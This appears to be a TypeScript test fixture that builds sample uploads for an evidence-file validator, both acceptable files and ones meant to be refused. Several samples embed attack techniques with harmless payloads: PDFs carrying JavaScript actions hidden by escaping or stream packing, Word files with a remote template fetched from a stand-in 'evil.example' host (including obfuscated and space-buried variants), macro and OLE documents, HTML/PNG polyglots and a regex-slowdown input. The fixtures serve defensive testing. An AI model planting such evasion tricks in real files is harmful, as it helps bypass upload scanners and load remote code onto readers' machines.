/** Files that somebody might hand in as evidence: good ones, and those that must be refused. */
import { deflateSync } from 'node:zlib';
import { strToU8, zipSync, type Zippable } from 'fflate';
import { picture } from '../generator/picture.ts';

export const png = picture(7);
export const pdf = strToU8('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n');
export const pdfWithScript = strToU8(
  '%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n%%EOF\n',
);
/** /JavaScript with a letter written as #61. */
export const pdfWithHiddenScript = strToU8(
  '%PDF-1.7\n1 0 obj\n<< /S /J#61vaScript >>\nendobj\n%%EOF\n',
);
/** A PDF whose objects are packed into a stream, as every PDF since 1.5 may have them. */
const packedPdf = (object: string, filter = '/FlateDecode') => {
  const packed = deflateSync(`4 0 ${object}`);
  return Buffer.concat([
    Buffer.from('%PDF-1.5\n% stream\n2 0 obj\n<< /Type /Obj#53tm /N 1 /First 4 '),
    Buffer.from(`/Filter ${filter} /Length ${String(packed.length)} >>\nstream\n`),
    filter === '/FlateDecode' ? packed : Buffer.from('密文'),
    Buffer.from('\nendstream\nendobj\n%%EOF\n'),
  ]);
};
export const pdfPacked = packedPdf('<< /Type /Catalog >>');
export const pdfWithPackedScript = packedPdf('<< /S /JavaScript /JS (app.alert(1)) >>');
export const pdfUnreadable = packedPdf('', '/Crypt');
export const webp = Buffer.concat([
  Buffer.from('RIFF\u0004\0\0\0WEBP', 'latin1'),
  Buffer.from('VP8 \0\0\0\0', 'latin1'),
]);

const zip = (files: Record<string, string>) =>
  zipSync(
    Object.fromEntries(
      Object.entries(files).map(([name, text]) => [name, strToU8(text)]),
    ) satisfies Zippable,
  );

export const docx = zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w/>' });
export const xlsx = zip({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<w/>' });
export const ofd = zip({ 'OFD.xml': '<ofd/>', 'Doc_0/Document.xml': '<d/>' });
export const docm = zip({ 'word/document.xml': '<w/>', 'word/vbaProject.bin': 'macro' });
export const docxWithObject = zip({
  'word/document.xml': '<w/>',
  'word/embeddings/oleObject1.bin': 'object',
});
const docxWith = (relationships: string) =>
  zip({ 'word/document.xml': '<w/>', 'word/_rels/settings.xml.rels': relationships });
const TEMPLATE =
  'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
export const docxWithTemplate = docxWith(
  `<Relationship Type="${TEMPLATE}" Target="http://evil.example/t.dotm" TargetMode="External"/>`,
);
/** Attributes the other way round, in the other quotes, a letter as a number. */
export const docxWithHiddenTemplate = docxWith(
  `<r:Relationship TargetMode='Extern&#97;l' Target='http://evil.example/t.dotm' Type='${TEMPLATE}'/>`,
);
/** Behind more spaces than anybody looks through. */
export const docxWithFarTemplate = docxWith(
  `${' '.repeat(5_000_000)}<Relationship Type="${TEMPLATE}" Target="t" TargetMode="External"/>`,
);
/** A link that somebody may click is no harm. */
export const docxWithLink = docxWith(
  '<Relationship Type="http://x.example/hyperlink" Target="http://a.example/frame" TargetMode="External"/>',
);
/** Words on which a search that begins over and over would take minutes. */
export const docxToSearchLong = docxWith('<Relationship Type="x/attachedTemplate"'.repeat(80_000));
export const plainZip = zip({ '说明.txt': '说明' });
export const oldDoc = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]);
export const html = strToU8('<!DOCTYPE html><script>alert(1)</script>');
export const svg = strToU8('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>');
export const exe = Buffer.from('MZ\u0090\0\u0003\0', 'latin1');
export const shell = strToU8('#!/bin/sh\ntouch /tmp/x\n');

/** A TIFF block with one entry: the camera's maker, or a pointer to GPS values. */
function tiff(tag: number): Buffer {
  const block = Buffer.alloc(8 + 2 + 12 + 4);
  block.write('II', 0, 'latin1');
  block.writeUInt16LE(42, 2);
  block.writeUInt32LE(8, 4);
  block.writeUInt16LE(1, 8);
  block.writeUInt16LE(tag, 10);
  block.writeUInt16LE(4, 12);
  block.writeUInt32LE(1, 14);
  block.writeUInt32LE(26, 18);
  return block;
}

const MAKER = 0x010f;
const GPS = 0x8825;

function jpeg(app1: Buffer): Uint8Array {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(app1.length + 2);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xe1]),
    length,
    app1,
    Buffer.from([0xff, 0xda, 0, 2, 0xff, 0xd9]),
  ]);
}

/** A picture of which only a part arrived, one that ends in a page, and a page with a picture's first bytes. */
export const pngHalf = png.subarray(0, png.length - 20);
export const pngWithPage = Buffer.concat([png, html]);
export const pageAsPng = Buffer.concat([png.subarray(0, 8), html]);

const exif = (tag: number) => Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff(tag)]);

export const jpegPlain = jpeg(exif(MAKER));
export const jpegHalf = jpegPlain.subarray(0, jpegPlain.length - 2);
export const webpHalf = Buffer.concat([
  Buffer.from('RIFF\u00ff\0\0\0WEBP', 'latin1'),
  Buffer.from('VP8 \0\0\0\0', 'latin1'),
]);
export const jpegWithPosition = jpeg(exif(GPS));
export const jpegWithXmpPosition = jpeg(
  Buffer.from('http://ns.adobe.com/xap/1.0/\0<x exif:GPSLatitude="38,17N"/>', 'latin1'),
);

/** The small picture with an eXIf block before its end. */
export const pngWithPosition = (() => {
  const bytes = Buffer.from(png);
  const end = bytes.lastIndexOf('IEND') - 4;
  const data = tiff(GPS);
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write('eXIf', 4, 'latin1');
  return Buffer.concat([bytes.subarray(0, end), head, data, Buffer.alloc(4), bytes.subarray(end)]);
})();

export const webpWithPosition = (() => {
  const data = exif(GPS);
  const head = Buffer.alloc(8);
  head.write('EXIF', 0, 'latin1');
  head.writeUInt32LE(data.length, 4);
  return Buffer.concat([Buffer.from(webp), head, data]);
})();
